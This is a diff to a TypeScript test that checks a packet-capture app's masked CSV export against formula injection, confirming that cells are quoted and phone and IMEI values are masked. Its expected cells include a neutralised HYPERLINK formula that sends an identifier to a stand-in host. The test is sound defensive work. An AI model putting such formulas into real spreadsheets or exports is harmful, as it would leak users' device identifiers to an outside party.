@@ -3,7 +3,7 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { csvCell, findingsCsv } from '../../src/app/lib/exports';
+import { csvCell, findingsCsv, reportRedactor } from '../../src/app/lib/exports';
 import { oneRequestPcap } from '../capture/build';
 import { analyzeFile } from '../pipeline';
 import { parseCsv } from '../csv';
@@ -77,6 +77,16 @@ describe('a capture built to inject formulas', () => {
       // Every row's Host cell is the capture's Host behind the one quote.
       const host = rows[0].indexOf('host');
       for (const r of rows.slice(1)) expect(r[host]).toBe(`'${HOST}`);
+
+      // The CSV for sharing (masked) is the app's other CSV export: as safe, the values masked.
+      const shared = parseCsv(findingsCsv(report, report.findings, reportRedactor(report)));
+      expect(shared.length).toBe(rows.length);
+      const sharedCells = shared.slice(1).flat();
+      expect(sharedCells.filter((c) => DANGEROUS.test(c))).toEqual([]);
+      expect(sharedCells).toContain(`'${HOST}`);
+      expect(sharedCells).toContain("'+8••••••••••69");
+      expect(sharedCells.filter((c) => c.includes(IMEI) || c.includes('8618611428769'))).toEqual([]);
+      expect(sharedCells.some((c) => c.startsWith(`'=HYPERLINK("http://ev.co/?i=•••••••••••••••"`))).toBe(true);
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
